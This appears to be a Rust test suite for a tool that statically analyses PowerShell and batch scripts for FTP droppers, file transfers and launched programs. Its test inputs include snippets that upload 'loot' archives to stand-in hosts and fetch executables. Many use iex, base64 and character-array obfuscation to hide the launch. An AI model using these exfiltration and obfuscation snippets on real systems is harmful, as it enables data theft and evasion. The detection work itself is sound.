//! Scripts of PowerShell through the reader: what they write, start and move.

use crate::base::limits::Limits;
use crate::base::text::{Encoding, Text};
use crate::script::launch::Client;
use crate::script::read;
use crate::script::reading::{Feed, Form, TextReading};
use crate::script::session::Session;
use crate::script::transfer::Direction;
use crate::script::writer::emulation::Alone;
use crate::script::writer::outcome::Origin;

fn reading_as(text: &str, name: &str) -> Option<TextReading> {
    read::read(&Text::from_content(text), Origin { directory: Some("C:\\w"), name }, &Alone, &Limits::default())
}

fn reading(text: &str) -> TextReading {
    reading_as(text, "a.ps1").unwrap_or_else(|| panic!("says nothing: {text}"))
}

/// The scripts that a text feeds to a client, with `|` for the ends of lines.
fn fed(text: &str) -> Vec<String> {
    reading(text).written.iter().map(|written| written.text.content.replace("\r\n", "|").replace('\n', "|")).collect()
}

/// `user:password@host:port` and each transfer of a session.
fn shown(session: &Session) -> String {
    let credential = session.credentials.first();
    let user = credential.and_then(|c| c.username.as_deref()).unwrap_or("?");
    let password = credential.and_then(|c| c.password.as_ref()).map_or("?", |p| p.reveal());
    let mut text =
        format!("{user}:{password}@{}:{}", session.host.as_deref().unwrap_or("?"), session.port.unwrap_or(0));
    for transfer in &session.transfers {
        let way = if transfer.direction == Direction::Upload { "put" } else { "get" };
        let (remote, local) =
            (transfer.remote_path.as_deref().unwrap_or("-"), transfer.local_path.as_deref().unwrap_or("-"));
        text.push_str(&format!(" {way} {remote} {local}"));
    }
    for deleted in &session.deletes {
        text.push_str(&format!(" delete {deleted}"));
    }
    text
}

fn sessions(text: &str) -> Vec<String> {
    reading(text).sessions.iter().map(shown).collect()
}

#[test]
fn droppers_leave_these_bytes() {
    let cases: &[(&str, &str)] = &[
        (
            "$s=@\"\nopen 192.0.2.40\nbob\npw\nquit\n\"@\n$s|Out-File -Encoding ASCII $env:TEMP\\c.txt; ftp.exe -i -s:$env:TEMP\\c.txt; rm $env:TEMP\\c.txt",
            "open 192.0.2.40|bob|pw|quit|",
        ),
        ("\"open h.x\",\"user bob pw\",\"bye\"|Set-Content f.txt;& ftp -n \"-s:f.txt\"", "open h.x|user bob pw|bye|"),
        ("sc f ('open {0}`nbye' -f 'h.x');ftp -n -s:f", "open h.x`nbye|"),
        ("sc f (\"open {0}`nbye\" -f 'h.x');ftp -n -s:f", "open h.x|bye|"),
        (
            "$h='h.x'\n$u=\"bob\"\n'open ' + $h | sc f\n\"user $u $($u.ToUpper())\" | ac f\nAdd-Content -Value 'bye' -Path f\nftp -s:f",
            "open h.x|user bob BOB|bye|",
        ),
        ("echo 'open h.x' 'bye' > f\nftp -s:f", "open h.x|bye|"),
        ("'open h.x' > f\n'bye' >> f\nftp -s:f", "open h.x|bye|"),
        ("@('open h.x','bye') -join \"`r`n\" | Out-File f -enc oem -NoNewline\nftp -s:f", "open h.x|bye"),
        ("[IO.File]::WriteAllText('f', \"open h.x`r`nbye`r`n\")\nftp -s:f", "open h.x|bye|"),
        ("[System.IO.File]::WriteAllLines(\"f\", @('open h.x','bye'))\nftp -s:f", "open h.x|bye|"),
        (
            "$w = New-Object System.IO.StreamWriter('f')\n$w.WriteLine('open h.x')\n$w.Write(\"bye`n\")\n$w.Close()\nftp -s:f",
            "open h.x|bye|",
        ),
        ("$w=[IO.StreamWriter]::new('f');$w.WriteLine(\"open {0}\",'h.x');$w.Close();ftp -s:f", "open h.x|"),
        ("New-Item -Path f -ItemType File -Value \"open h.x`r`nbye\" -Force | Out-Null\nftp -s:f", "open h.x|bye"),
        ("cmd /c \"echo open h.x>f&echo bye>>f\"\nftp -s:f", "open h.x|bye|"),
        ("cmd.exe /c echo open h.x '>' f\ncmd /c 'ftp -s:f'", "open h.x |"),
        ("\"open h.x`nbye\" | ftp.exe -n", "open h.x|bye|"),
        ("sc f 'open h.x'\nGet-Content f | ftp -n", "open h.x|"),
        ("foreach ($l in 'open h.x','bye') { Add-Content f $l }\nftp -s:f", "open h.x|bye|"),
        ("for ($i=1; $i -le 3; $i++) { ac f \"get $i\" }\nftp -s:f", "get 1|get 2|get 3|"),
        ("1..3 | % { \"get f$_.x\" } | sc f\nftp -s:f", "get f1.x|get f2.x|get f3.x|"),
        ("$i=0\nwhile ($i -lt 2) { ac f \"get $i\"; $i += 1 }\nftp -s:f", "get 0|get 1|"),
        ("function W($t) { Add-Content -Path f -Value $t }\nW 'open h.x'\nW -t \"bye\"\nftp -s:f", "open h.x|bye|"),
        ("$p=@{Path='f';Value='open h.x'}\nSet-Content @p\nftp -s:f", "open h.x|"),
        (
            "$c = ''\n$c += \"open h.x`r`n\"\n$c += 'bye'\nSet-Content -LiteralPath 'f' -Value $c -Encoding Ascii\nftp -s:f",
            "open h.x|bye|",
        ),
        ("try { 'open h.x' | sc f } catch { 'no' }\nftp -s:f", "open h.x|"),
        ("if (Test-Path q) { 'open h.x' | sc f } else { 'open g.x' | sc f }\n'bye'|ac f\nftp -s:f", "open g.x|bye|"),
        ("if ('a' -eq 'A') { sc f 'open h.x' } else { sc f 'open g.x' }\nftp -s:f", "open h.x|"),
        ("Set-Location C:\\t\nsc f 'bye'\nftp -s:C:\\t\\f", "bye|"),
        (
            "$f = Join-Path $env:TEMP 'c.txt'\nsc $f 'bye'\nStart-Process -FilePath ftp -ArgumentList \"-n\",\"-s:$f\" -Wait",
            "bye|",
        ),
        ("sc f 'bye'\nStart-Process ftp '-n -s:f' -WindowStyle Hidden", "bye|"),
        ("sc f 'bye'\nStart-Process ftp.exe -ArgumentList '-n h.x' -RedirectStandardInput f", "bye|"),
        ("sc f 'bye'\n[Diagnostics.Process]::Start('ftp.exe','-s:f')", "bye|"),
        (
            "sc f 'bye'\n$p=New-Object Diagnostics.ProcessStartInfo\n$p.FileName='ftp'\n$p.Arguments='-s:f'\n[Diagnostics.Process]::Start($p)",
            "bye|",
        ),
        (
            "$p = New-Object System.Diagnostics.Process\n$p.StartInfo.FileName = 'ftp.exe'\n$p.StartInfo.Arguments = '-n'\n$p.StartInfo.RedirectStandardInput = $true\n$p.Start()\n$p.StandardInput.WriteLine('open h.x')\n$p.StandardInput.WriteLine('bye')\n$p.StandardInput.Close()\n$p.WaitForExit()",
            "open h.x|bye|",
        ),
        (
            "$i = New-Object System.Diagnostics.ProcessStartInfo\n$i.FileName = 'ftp.exe'\n$i.Arguments = '-n'\n$i.RedirectStandardInput = $true\n$p = [System.Diagnostics.Process]::Start($i)\n$p.StandardInput.WriteLine('open h.x')\n$p.StandardInput.WriteLine('bye')\n$p.WaitForExit()",
            "open h.x|bye|",
        ),
        ("sc f 'bye'\n(New-Object -ComObject WScript.Shell).Run('ftp -s:f',0,$true)", "bye|"),
        ("sc f 'bye'; ([wmiclass]'Win32_Process').Create('ftp -s:f')", "bye|"),
        ("Tee-Object -FilePath f -InputObject 'bye' | Out-Null\nftp -s:f", "bye|"),
        ("'bye' | Tee-Object f | ftp -n", "bye|"),
        ("ftp --% -n -s:f\nsc f 'bye'\nftp -s:f", "bye|"),
        (
            "$b = New-Object Text.StringBuilder\n[void]$b.AppendLine('open h.x')\n[void]$b.Append('bye')\n$b.ToString() | sc f\nftp -s:f",
            "open h.x|bye|",
        ),
        (
            "$l = New-Object System.Collections.ArrayList\n[void]$l.Add('open h.x')\n$l.Add('bye') | Out-Null\n$l.ToArray() | sc f\nftp -s:f",
            "open h.x|bye|",
        ),
        (
            "$cmds = @(\n  'open h.x'\n  'bye'\n)\n$cmds | Out-File -FilePath f -Encoding ascii\nftp -s:f",
            "open h.x|bye|",
        ),
        ("<# a\nremark #> sc f `\n  -Value 'bye' # to write\nftp -s:f", "bye|"),
        ("sc a 'open h.x'\nCopy-Item a b\nftp -s:b", "open h.x|"),
        ("${h.x} = 'h.x'\nsc f \"open ${h.x}\"\nftp -s:f", "open h.x|"),
        ("$a = 'h','x'\nsc f \"open $($a -join '.')\"\nftp -s:f", "open h.x|"),
        ("$env:H='h.x'\nsc f \"open $env:H\"\ncmd /c \"echo bye>>f&ftp -s:f\"", "open h.x|bye|"),
        ("$m = if ($x) { 'ascii' } else { 'binary' }\nsc f $m\nftp -s:f", "ascii|"),
        ("$m = if ('a' -eq 'b') { 'ascii' } else { 'binary' }\nsc f $m\nftp -s:f", "binary|"),
        ("switch ('b') { 'a' { sc f 'no' } 'b' { sc f 'bye' } default { sc f 'no' } }\nftp -s:f", "bye|"),
        ("sc f \"say `\"hi`\" \"\"there\"\" `$x\"\nftp -s:f", "say \"hi\" \"there\" $x|"),
        ("$t=@'\nopen $h\nbye\n'@\nsc f $t\nftp -s:f", "open $h|bye|"),
        ("[Environment]::CurrentDirectory='C:\\t'; sc f ('bye'+[Environment]::NewLine)\nftp -s:f", "bye||"),
    ];
    for (text, expected) in cases {
        assert_eq!(fed(text).first().map(String::as_str), Some(*expected), "{text}");
        assert!(reading(text).launches.iter().any(|(_, feed)| *feed == Feed::Written(0)), "{text}");
    }
}

#[test]
fn collections_are_what_they_hold() {
    let of_generic = "$l = New-Object System.Collections.Generic.List[string]\n$l.Add('open h.x')\n$l.Add(\"bye\")\n";
    let of_array = "$l = [System.Collections.ArrayList]@()\n[void]$l.Add('open h.x')\n$l.AddRange(@('bye'))\n";
    let cases: &[(&str, &str, &str)] = &[
        (of_generic, "$l -join \"`n\" | Set-Content f", "open h.x|bye|"),
        (of_generic, "[IO.File]::WriteAllLines('f', $l)", "open h.x|bye|"),
        (of_generic, "$l | Out-File f -Encoding ascii", "open h.x|bye|"),
        (of_generic, "[string]::Join('|', $l) | sc f", "open h.x|bye|"),
        (of_generic, "Set-Content -Path f -Value $l", "open h.x|bye|"),
        (of_generic, "foreach ($c in $l) { Add-Content f $c }", "open h.x|bye|"),
        (of_generic, "sc f ($l[0] + '!' + $l.Count)", "open h.x!2|"),
        (of_array, "$l | sc f", "open h.x|bye|"),
        (of_array, "sc f ('cd a' + \"`n\" + ($l -join \"`n\"))", "cd a|open h.x|bye|"),
        (of_array, "function put-it($k) { $k.Add('dir') }\nput-it $l\nsc f $l", "open h.x|bye|dir|"),
        ("$l = @('-n', '-s:f')\n", "sc f 'bye'\n& ftp $l", "bye|"),
    ];
    for (made, used, expected) in cases {
        let text = format!("{made}{used}\nftp -s:f");
        assert_eq!(fed(&text).first().map(|text| text.replace('\r', "")).as_deref(), Some(*expected), "{text}");
    }
}

#[test]
fn temporary_files_have_names() {
    let text = "$a = [System.IO.Path]::GetTempFileName()\n$b = New-TemporaryFile\nsc $a 'bye'\nsc $b.FullName 'quit'\n\
                ftp -s:$a\nStart-Process ftp -ArgumentList @('-n', \"-s:$($b.FullName)\")";
    assert_eq!(fed(text), ["bye|", "quit|"]);
    let launch = reading(text).launches[0].0.script_path.clone();
    assert_eq!(launch.as_deref(), Some("$env:TEMP\\tmp%GetTempFileName%.tmp"));
}

#[test]
fn what_is_hidden_is_found() {
    let cases = [
        "&(\"{1}{0}\" -f 'tp','f') -n -s:f",
        "& ('f'+'tp') -s:f",
        "fT`P -s:f",
        ".('i'+'ex') 'ftp -s:f'",
        "iex ('ftp -s:{0}' -f 'f')",
        "I`nvo`Ke-Exp`RessIon ('sj -n:s'[0]; 'ftp -s:f')[-1]",
        "('ft'+'p -s:f') | iex",
        "&($env:ComSpec[4,26,25]-join'') 'ftp -s:f'",
        "&($pshome[4]+$pshome[30]+'x') 'ftp -s:f'",
        "iex (-join[char[]](102,116,112,32,45,115,58,102))",
        "iex ([char]102+[char]116+[char]0x70+' -s:f')",
        "iex ('ft#p -s:#f' -replace '#','')",
        "iex ('fXp -s:f'.Replace('X','t'))",
        "iex ('ptf'[2..0] -join ''); ftp -s:f",
        "iex ('ftp~-s:f'.Split('~') -join ' ')",
        "$a='f:s- ptf'.ToCharArray();[array]::Reverse($a);iex (-join $a)",
        "iex ([Text.Encoding]::ASCII.GetString([Convert]::FromBase64String('ZnRwIC1zOmY=')))",
        "$c=[System.Text.Encoding]::Unicode.GetString([System.Convert]::FromBase64String('ZgB0AHAAIAAtAHMAOgBmAA==')); iex $c",
        "powershell -nop -enc ZgB0AHAAIAAtAHMAOgBmAA==",
        "powershell.exe -Command \"ftp -s:f\"",
        "powershell { ftp -s:f }",
        "& { ftp -s:f }",
        "$b = { param($x) ftp \"-s:$x\" }; & $b f",
        "Invoke-Command -ScriptBlock { ftp -s:f }",
        "Start-Job { ftp -s:f }",
        "[scriptblock]::Create('ftp -s:f').Invoke()",
        "iex ('102 116 112 32 45 115 58 102'.Split(' ') | % { [char][int]$_ }) ; iex (('102 116 112 32 45 115 58 102'.Split(' ') | % { [char][int]$_ }) -join '')",
        "$x = [string]::Join('', ('f','tp -s:f')); iex $x",
        "&(gcm inv*ex*n) 'ftp -s:f'",
        "Set-Alias q ftp.exe; q -s:f",
        "sal z iex; z 'ftp -s:f'",
        "ForEach ($n in 1) {\n ftp -s:f\n}",
        "iex 'iex \"ftp -s:f\"'",
        "'ftp -s:f' | &('ie'+'x')",
        "(102,116,112,32,45,115,58,102 | %{[char]$_}) -join '' | iex",
        "iex ('66-74-70-20-2d-73-3a-66' -split '-' | %{[char][convert]::ToInt32($_,16)} | Out-String); iex (('66-74-70-20-2d-73-3a-66' -split '-' | %{[char][convert]::ToInt32($_,16)}) -join '')",
    ];
    for text in cases {
        let reading = reading(text);
        let found = reading.launches.iter().any(|(launch, _)| launch.script_path.as_deref() == Some("f"));
        assert!(found, "{text}: {:?} {:?}", reading.launches, reading.runs);
    }
}

#[test]
fn command_lines_of_other_languages_reach_powershell() {
    let cases = [
        "powershell -c \"sc f.txt ('open {0}' -f 'h.x');ftp -n -s:f.txt\"",
        "@echo off\npowershell -NoP -W hidden -Command \"& {'open h.x' | Set-Content f.txt; ftp -s:f.txt}\"",
        "cmd /c powershell -c \"'open h.x'|sc f.txt\"&ftp -s:f.txt",
        "@echo off\npowershell \"'open h.x'\" > f.txt\nftp -s:f.txt",
    ];
    for text in cases {
        let reading = reading_as(text, "a.bat").expect(text);
        let written: Vec<_> = reading.written.iter().map(|written| written.text.content.as_str()).collect();
        assert_eq!(written, ["open h.x\r\n"], "{text}");
        assert_eq!(reading.form, Form::Batch, "{text}");
    }
}

#[test]
fn encodings_are_those_of_windows_powershell() {
    let cases = [
        ("'bye' > f", Encoding::Utf16Le, true),
        ("'bye' | Out-File f", Encoding::Utf16Le, true),
        ("'bye' | Out-File f -Encoding ascii", Encoding::Utf8, false),
        ("'bye' | Set-Content f", Encoding::Utf8, false),
        ("'bye' | sc f -Enc Unicode", Encoding::Utf16Le, true),
        ("'bye' | sc f -Encoding utf8", Encoding::Utf8, true),
        ("[IO.File]::WriteAllText('f','bye')", Encoding::Utf8, false),
        ("[IO.File]::WriteAllText('f','bye',[Text.Encoding]::Unicode)", Encoding::Utf16Le, true),
        ("'bye' | Tee-Object f", Encoding::Utf16Le, true),
    ];
    for (text, encoding, mark) in cases {
        let reading = reading(&format!("{text}\nftp -s:f"));
        let written = &reading.written[0].text;
        assert_eq!((written.encoding, written.byte_order_mark), (encoding, mark), "{text}");
    }
    let mixed = reading("'open h.x' | sc f\n'bye' >> f\nftp -s:f");
    assert_eq!(mixed.diagnostics.first().map(|diagnostic| diagnostic.code.as_str()), Some("mixed-encodings"));
    let core = reading("pwsh -c \"'bye' > f\"\nftp -s:f");
    assert_eq!(core.written[0].text.encoding, Encoding::Utf8);
}

#[test]
fn lines_know_who_wrote_them() {
    let cases: [(&str, &[u32]); 6] = [
        ("# x\n$s=@\"\nopen h.x\nbob\nbye\n\"@\n$s | sc f\nftp -s:f", &[3, 4, 5]),
        ("sc f 'open h.x'\n\nac f 'bye'\nftp -s:f", &[1, 3]),
        ("$c = @(\n'open h.x'\n'bye'\n)\n$c | sc f\nftp -s:f", &[2, 3]),
        ("$c = \"open h.x`r`n\"\n$c += \"bye`r`n\"\n[IO.File]::WriteAllText('f', $c)\nftp -s:f", &[1, 2]),
        ("\n\"open h.x\nbye\" | sc f\nftp -s:f", &[2, 3]),
        ("\npowershell -c \"sc f 'open h.x','bye'\"\nftp -s:f", &[2, 2]),
    ];
    for (text, expected) in cases {
        let lines: Vec<u32> = reading(text).written[0].provenance.iter().map(|p| p.written_by_line).collect();
        assert_eq!(lines, expected, "{text}");
    }
}

#[test]
fn classes_open_sessions() {
    let cases: &[(&str, &str)] = &[
        (
            "(New-Object Net.WebClient).DownloadFile('ftp://bob:pw@192.0.2.68/x.exe','C:\\x.exe')",
            "bob:pw@192.0.2.68:21 get x.exe C:\\x.exe",
        ),
        (
            "$w=New-Object System.Net.WebClient;$w.Credentials=New-Object Net.NetworkCredential('eve','p2');$w.UploadFile('ftp://192.0.2.69/up/l.zip','STOR','C:\\l.zip')",
            "eve:p2@192.0.2.69:21 put up/l.zip C:\\l.zip",
        ),
        (
            "$w=[Net.WebClient]::new();$u=New-Object System.Uri('ftp://a:b@h.x:2121/l.zip');$w.UploadFile($u,'C:\\l.zip')",
            "a:b@h.x:2121 put l.zip C:\\l.zip",
        ),
        (
            "$r=[Net.FtpWebRequest]::Create('ftp://192.0.2.70/d.7z');$r.Credentials=New-Object Net.NetworkCredential('bob','pw');$r.Method='DELE';$r.GetResponse()",
            "bob:pw@192.0.2.70:21 delete d.7z",
        ),
        (
            "iwr -Uri ftp://192.0.2.71/a.txt -Method Put -InFile C:\\a.txt -Credential $c",
            "?:?@192.0.2.71:21 put a.txt C:\\a.txt",
        ),
        ("Invoke-WebRequest ftp://h.x/a.exe -OutFile C:\\a.exe", "anonymous:anonymous@@h.x:21 get a.exe C:\\a.exe"),
        ("wget ftp://u:p@h.x/a.exe -O C:\\a.exe", ""),
        (
            "$s=ConvertTo-SecureString 'pw' -AsPlainText -Force\n$c=New-Object System.Management.Automation.PSCredential('bob',$s)\niwr 'ftp://h.x/a' -OutFile b -Credential $c",
            "bob:pw@h.x:21 get a b",
        ),
        (
            "Start-BitsTransfer -Source ftp://h.x/a.exe -Destination C:\\a.exe",
            "anonymous:anonymous@@h.x:21 get a.exe C:\\a.exe",
        ),
        (
            "$s=(New-Object Net.WebClient).DownloadString('ftp://u:p@h.x/a.ps1'); $s | Out-File C:\\a.ps1",
            "u:p@h.x:21 get a.ps1 C:\\a.ps1",
        ),
        (
            "$f='C:\\l.zip'\n$r=[System.Net.WebRequest]::Create(\"ftp://h.x/in/$([IO.Path]::GetFileName($f))\")\n$r=[System.Net.FtpWebRequest]$r\n$r.Method=[System.Net.WebRequestMethods+Ftp]::UploadFile\n$r.Credentials=New-Object System.Net.NetworkCredential(\"bob\",\"pw\")\n$r.UseBinary=$true\n$c=[System.IO.File]::ReadAllBytes($f)\n$s=$r.GetRequestStream()\n$s.Write($c,0,$c.Length)\n$s.Close()",
            "bob:pw@h.x:21 put in/l.zip C:\\l.zip",
        ),
        (
            "$r=[Net.WebRequest]::Create('ftp://h.x/a.bin')\n$r.Method='RETR'\n$r.Credentials=New-Object Net.NetworkCredential 'bob','pw'\n$p=$r.GetResponse()\n$in=$p.GetResponseStream()\n$out=New-Object IO.FileStream('C:\\a.bin',[IO.FileMode]::Create)\n$b=New-Object byte[] 1024\ndo { $n=$in.Read($b,0,1024); $out.Write($b,0,$n) } while ($n -gt 0)",
            "bob:pw@h.x:21 get a.bin C:\\a.bin",
        ),
        (
            "$r=[Net.FtpWebRequest]::Create('ftp://a:b@h.x/a.bin')\n$r.Method=[Net.WebRequestMethods+Ftp]::DownloadFile\n$in=$r.GetResponse().GetResponseStream()\n$out=New-Object IO.FileStream ('C:\\a.bin',[IO.FileMode]::Create)\n[byte[]]$b=New-Object byte[] 1024\ndo { $n=$in.Read($b,0,1024); $out.Write($b,0,$n) } while ($n -ne 0)",
            "a:b@h.x:21 get a.bin C:\\a.bin",
        ),
        (
            "$r=[Net.WebRequest]::Create('ftp://a:b@h.x/a.bin')\n$r.Method=[Net.WebRequestMethods+Ftp]::UploadFile\n$in=[IO.File]::OpenRead('C:\\a.bin')\n$s=$r.GetRequestStream()\n$in.CopyTo($s)",
            "a:b@h.x:21 put a.bin C:\\a.bin",
        ),
        (
            "$c=Get-Content 'C:\\a.bin' -Encoding Byte\n$r=[Net.WebRequest]::Create('ftp://a:b@h.x/a.bin')\n$r.Method='STOR'\n$s=$r.GetRequestStream();$s.Write($c,0,$c.Length)",
            "a:b@h.x:21 put a.bin C:\\a.bin",
        ),
        (
            "foreach($f in Get-ChildItem C:\\loot -Filter *.zip){ (New-Object Net.WebClient).UploadFile(\"ftp://a:b@h.x/up/$($f.Name)\", $f.FullName) }",
            "a:b@h.x:21 put up/$($f.Name) C:\\loot\\*.zip",
        ),
        (
            "$h='h.x';$u='bob';$p='pw';$wc = New-Object ('Net.W'+'ebClient');$wc.('Down'+'loadFile').Invoke(\"ftp://${u}:$p@$h/x\",'y')",
            "bob:pw@h.x:21 get x y",
        ),
        ("$w=nEW-oBJECT nET.wEBCLIENT\n$w.\"down`LoadFile\"('ftp://a:b@h.x/x','y')", "a:b@h.x:21 get x y"),
        (
            "function Send($file, $server='h.x') {\n $w = New-Object Net.WebClient\n $w.UploadFile(\"ftp://a:b@$server/z\", $file)\n}\nSend C:\\z",
            "a:b@h.x:21 put z C:\\z",
        ),
    ];
    for (text, expected) in cases {
        let found = reading_as(text, "a.ps1").map(|reading| reading.sessions.iter().map(shown).collect::<Vec<_>>());
        let expected: Vec<&str> = if expected.is_empty() { Vec::new() } else { vec![expected] };
        assert_eq!(found.unwrap_or_default(), expected, "{text}");
    }
}

#[test]
fn modules_open_sessions() {
    let cases: [(&str, &str); 4] = [
        (
            "Add-Type -Path 'WinSCPnet.dll'\n$o = New-Object WinSCP.SessionOptions -Property @{\n Protocol = [WinSCP.Protocol]::Ftp\n HostName = 'h.x'\n UserName = 'bob'\n Password = 'pw'\n}\n$s = New-Object WinSCP.Session\ntry {\n $s.Open($o)\n $s.PutFiles('C:\\l\\*.zip','/in/').Check()\n $s.GetFiles('/a','C:\\a').Check()\n $s.RemoveFiles('/b')\n} finally { $s.Dispose() }",
            "bob:pw@h.x:21 put /in/ C:\\l\\*.zip get /a C:\\a delete /b",
        ),
        (
            "$o = [WinSCP.SessionOptions]::new()\n$o.HostName='h.x'\n$o.UserName='bob'\n$o.Password='pw'\n$s=[WinSCP.Session]::new()\n$s.Open($o)\n$s.GetFiles('/a','b')",
            "bob:pw@h.x:22 get /a b",
        ),
        (
            "$p = ConvertTo-SecureString 'pw' -AsPlainText -Force\n$c = [PSCredential]::new('bob',$p)\nSet-FTPConnection -Credentials $c -Server ftp://h.x -Session q\nAdd-FTPItem -Path '/in' -LocalPath 'C:\\a.zip'",
            "bob:pw@h.x:21 put /in C:\\a.zip",
        ),
        (
            "$c = New-Object PSCredential('bob',(ConvertTo-SecureString 'pw' -AsPlainText -Force))\n$s = New-SFTPSession -ComputerName h.x -Credential $c -AcceptKey\nSet-SFTPFile -SessionId $s.SessionId -LocalFile C:\\a -RemotePath /in",
            "bob:pw@h.x:22 put /in C:\\a",
        ),
    ];
    for (text, expected) in cases {
        assert_eq!(sessions(text), [expected], "{text}");
    }
    assert_eq!(reading(cases[0].0).client, Client::Winscp);
    assert_eq!(reading(cases[1].0).sessions[0].scheme, crate::script::session::Scheme::Sftp);
}

#[test]
fn sessions_of_classes_say_all() {
    let text = "$r=[Net.FtpWebRequest]::Create('ftp://h.x/a')\n$r.EnableSsl=$true\n$r.UseBinary=$false\n$r.Method='RENAME'\n$r.RenameTo='b'\n$r.GetResponse()";
    let reading = reading(text);
    assert_eq!((reading.form, reading.client), (Form::Powershell, Client::Dotnet));
    let session = &reading.sessions[0];
    assert_eq!(session.scheme, crate::script::session::Scheme::Ftps);
    assert_eq!(session.renames, [["a".to_owned(), "b".to_owned()]]);
    assert_eq!((session.line, session.commands[0].line), (6, 6));
    let unknown =
        sessions("param($server)\n(New-Object Net.WebClient).UploadFile(\"ftp://u:p@$server/x\", \"$env:TEMP\\x\")");
    assert_eq!(unknown, ["u:p@$server:21 put x $env:TEMP\\x"]);
    let listed = self::reading(
        "param($server)\n(New-Object Net.WebClient).UploadFile(\"ftp://u:p@$server/x\", \"$env:TEMP\\x\")",
    );
    assert_eq!(listed.sessions[0].unresolved, ["$server", "$env:TEMP"]);
}

#[test]
fn functions_of_libraries_name_no_host() {
    let library = "function Send-Ftp { param($Server,$User,$Password,$File)\n $w = New-Object Net.WebClient\n $w.Credentials = New-Object Net.NetworkCredential($User,$Password)\n $w.UploadFile(\"ftp://$Server/x\", $File)\n}";
    assert!(reading_as(library, "a.psm1").is_none());
    let fixed = "function Go { (New-Object Net.WebClient).DownloadFile('ftp://h.x/a','b') }";
    assert_eq!(sessions(fixed), ["anonymous:anonymous@@h.x:21 get a b"]);
}

#[test]
fn what_is_not_known_stays_as_written() {
    let reading = reading("sc \"$env:TEMP\\f\" \"open $server`nuser $user x`nbye\"\nftp -n -s:$env:TEMP\\f");
    assert_eq!(reading.written[0].text.content, "open $server\nuser $user x\nbye\r\n");
    assert_eq!(reading.written[0].unresolved, ["$server", "$user"]);
    assert_eq!(reading.written[0].path.as_deref(), Some("$env:TEMP\\f"));
    assert_eq!(reading.launches[0].0.script_path.as_deref(), Some("$env:TEMP\\f"));
}

#[test]
fn launches_know_what_they_are_fed() {
    let cases = [
        ("ftp -n -s:C:\\gone.txt", Feed::Elsewhere, Some("C:\\gone.txt")),
        ("Get-Content C:\\gone.txt | ftp -n h.x", Feed::Elsewhere, Some("C:\\gone.txt")),
        (
            "Start-Process ftp -ArgumentList '-n h.x' -RedirectStandardInput 'C:\\gone.txt'",
            Feed::Elsewhere,
            Some("C:\\gone.txt"),
        ),
        (
            "$a = New-ScheduledTaskAction -Execute 'ftp.exe' -Argument '-s:C:\\gone.txt'\nRegister-ScheduledTask -Action $a -TaskName x",
            Feed::Elsewhere,
            Some("C:\\gone.txt"),
        ),
        ("Start-Process cmd -ArgumentList '/c','ftp -s:C:\\gone.txt'", Feed::Elsewhere, Some("C:\\gone.txt")),
        ("$result = ftp -s:C:\\gone.txt", Feed::Elsewhere, Some("C:\\gone.txt")),
        (
            "$f = 'C:\\gone.txt'; & \"$env:windir\\system32\\ftp.exe\" -i \"-s:$f\" > log.txt",
            Feed::Elsewhere,
            Some("C:\\gone.txt"),
        ),
    ];
    for (text, feed, path) in cases {
        let reading = reading(text);
        let found: Vec<_> =
            reading.launches.iter().map(|(launch, feed)| (*feed, launch.script_path.as_deref())).collect();
        assert_eq!(found, [(feed, path)], "{text}");
    }
    let placed = reading("Start-Process ftp '-s:f' -WorkingDirectory C:\\t");
    assert_eq!(placed.launches[0].0.working_directory.as_deref(), Some("C:\\t"));
}

#[test]
fn programs_that_are_started_are_noted() {
    let reading = reading(
        "ftp -s:f\nStart-Process C:\\p.exe -ArgumentList '/s'\n& 'C:\\q r.exe' x\nInvoke-Item C:\\s.exe\nWrite-Host 'done'\nGet-Process",
    );
    let runs: Vec<&str> = reading.runs.iter().map(|run| run.command_line.as_str()).collect();
    assert_eq!(runs, ["C:\\p.exe /s", "\"C:\\q r.exe\" x", "C:\\s.exe"]);
}

#[test]
fn other_texts_say_nothing() {
    let cases = [
        "Write-Host 'ftp is a protocol'\n$x = 'ftp://'\nGet-Process | Where-Object { $_.Name -eq 'ftp' } | Stop-Process",
        "# ftp -s:f\n<# ftp -s:g #>\nGet-Content a.txt | Set-Content b.txt",
        "$u = 'http://h.x/ftp'\nInvoke-WebRequest $u -OutFile a",
        "function Get-FtpList { param($Url) $r = [Net.FtpWebRequest]::Create($Url); $r.GetResponse() }",
        "Install-WindowsFeature Web-Ftp-Server\nImport-Module WebAdministration\nNew-WebFtpSite -Name x -Port 21",
    ];
    for text in cases {
        let reading = reading_as(text, "a.ps1");
        let nothing =
            reading.as_ref().is_none_or(|r| r.launches.is_empty() && r.written.is_empty() && r.sessions.is_empty());
        assert!(nothing, "{text}: {reading:?}");
    }
}

#[test]
fn endless_scripts_end() {
    let deep = format!("ftp {}1{}", "(".repeat(5000), ")".repeat(5000));
    let braces = format!("ftp {}", "{".repeat(5000));
    let indices = format!("ftp; $a{}", "[0]".repeat(5000));
    let plus = format!("ftp; $a = {}'x'", "'x'+".repeat(5000));
    let casts = format!("ftp; $a = {}1", "[int]".repeat(5000));
    let cases = [
        "while ($true) { ac f 'ftp' }",
        "for (;;) { ftp -s:f }",
        "function A { A }\nA; ftp",
        "function A { B }\nfunction B { A }\nA; ftp",
        "$x='iex $x # ftp'\niex $x",
        "$x='ftp'\n1..1000|%{$x+=$x}",
        "$x=@('ftp')\n1..1000|%{$x+=$x}",
        "ftp; 'a'*1000000000",
        "ftp; 1..1000000000",
        "ftp; '{0,2000000000}' -f 1",
        "ftp; 'a'.PadLeft(2000000000)",
        "ftp; 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaa' -replace 'a*a*a*a*a*a*a*a*b','x'",
        "powershell -c \"powershell -c 'ftp'\"",
        "ac f 'x'; while(1){ gc f | ac f }; ftp -s:f",
        "ftp @\"",
        "ftp \"$(",
        "ftp @{a=",
        "ftp `",
        "$",
        "ftp $(${",
        "if (",
        "foreach",
        "switch ($a) {",
        "function",
        "ftp '",
        "[",
        "ftp; $a.",
        "ftp -",
        "ftp; &",
        "ftp; .",
        "ftp |",
        "ftp >",
        "try {",
        "param(",
        "function f($-x) {\n ftp",
        deep.as_str(),
        braces.as_str(),
        indices.as_str(),
        plus.as_str(),
        casts.as_str(),
    ];
    for text in cases {
        let first = reading_as(text, "a.ps1");
        assert_eq!(first, reading_as(text, "a.ps1"), "{}", &text[..text.len().min(60)]);
    }
}
